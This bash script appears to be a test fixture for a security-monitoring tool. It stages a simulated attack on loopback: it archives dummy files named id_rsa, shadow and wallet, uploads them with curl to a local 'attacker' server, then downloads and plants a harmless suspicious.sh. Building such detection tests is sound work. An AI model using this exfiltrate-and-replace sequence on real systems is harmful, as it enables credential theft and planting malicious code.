#!/usr/bin/env bash
# The scripted attacker of seed 000 §2.1, one definition for `make demo`,
# bench/reliability and the attack test.
#
#   attack.sh setup VICTIM        the victim's files (secret/ with four files,
#                                 maintenance.sh) and the attacker's HTTP
#                                 server on loopback, left running; its port
#                                 goes to VICTIM/port
#   attack.sh run VICTIM STEPS    the attack, step by step:
#                                 1. reads the four files of secret/
#                                 2. archives secret/ with tar
#                                 3. uploads the archive with curl to the server
#                                 4. downloads suspicious.sh from it
#                                 5. overwrites maintenance.sh with it
#
# Set up before the flood and run during it: started together, the flood
# starves the attacker's own start (Python's above all) until the flood is
# nearly over, and the attack would not be hidden in anything. `run` writes
# each step's wall-clock span (ns) to STEPS as a JSON line, for timelines to
# mark. curl connects with a non-blocking connect (-EINPROGRESS), as almost
# every network client does. Only the attack's own programs run: the clock
# and the loops are bash's builtins, so the attack's graph holds no `date`
# or `seq` of ours. The server exits after the download.
set -euo pipefail
usage="usage: attack.sh setup VICTIM | attack.sh run VICTIM STEPS"
mode=${1:?$usage} victim=${2:?$usage}
here=${BASH_SOURCE[0]%/*}
[ "$here" = "${BASH_SOURCE[0]}" ] && here=.

case $mode in
setup)
  rm -rf "$victim"; mkdir -p "$victim/secret" "$victim/c2"
  for s in id_rsa shadow db.conf wallet; do echo "secret $s" >"$victim/secret/$s"; done
  echo 'echo maintenance' >"$victim/maintenance.sh"
  printf '#!/bin/sh\necho owned\n' >"$victim/c2/suspicious.sh"
  # The attacker's server: takes the upload, serves suspicious.sh.
  /usr/bin/python3 "$here/../crates/custos/tests/fixtures/http_server.py" "$victim/port" \
    "$victim/c2/received.tar" "$victim/c2/suspicious.sh" </dev/null >/dev/null 2>&1 &
  for ((i = 0; i < 300; i++)); do [ -e "$victim/port" ] && exit 0; sleep 0.1; done
  echo "attack.sh: the attacker's server did not start" >&2
  exit 1
  ;;
run)
  steps=${3:?$usage}
  read -r port <"$victim/port" || [ -n "$port" ] # no newline at its end
  : >"$steps"
  now_ns() { REPLY=${EPOCHREALTIME//[!0-9]/}000; } # microseconds, any locale's separator
  step() { # name command...
    local name=$1 start; shift
    now_ns; start=$REPLY
    "$@"
    now_ns
    printf '{"step":"%s","start_ns":%s,"end_ns":%s}\n' "$name" "$start" "$REPLY" >>"$steps"
  }
  cd "$victim"
  step "read secrets" cat secret/id_rsa secret/shadow secret/db.conf secret/wallet >/dev/null
  step "archive" tar cf archive.tar secret
  step "upload" curl -sf -H 'Expect:' -T archive.tar "http://127.0.0.1:$port/upload"
  step "download" curl -sf -o suspicious.sh "http://127.0.0.1:$port/suspicious.sh"
  step "overwrite" cp suspicious.sh maintenance.sh
  ;;
*)
  echo "$usage" >&2
  exit 2
  ;;
esac
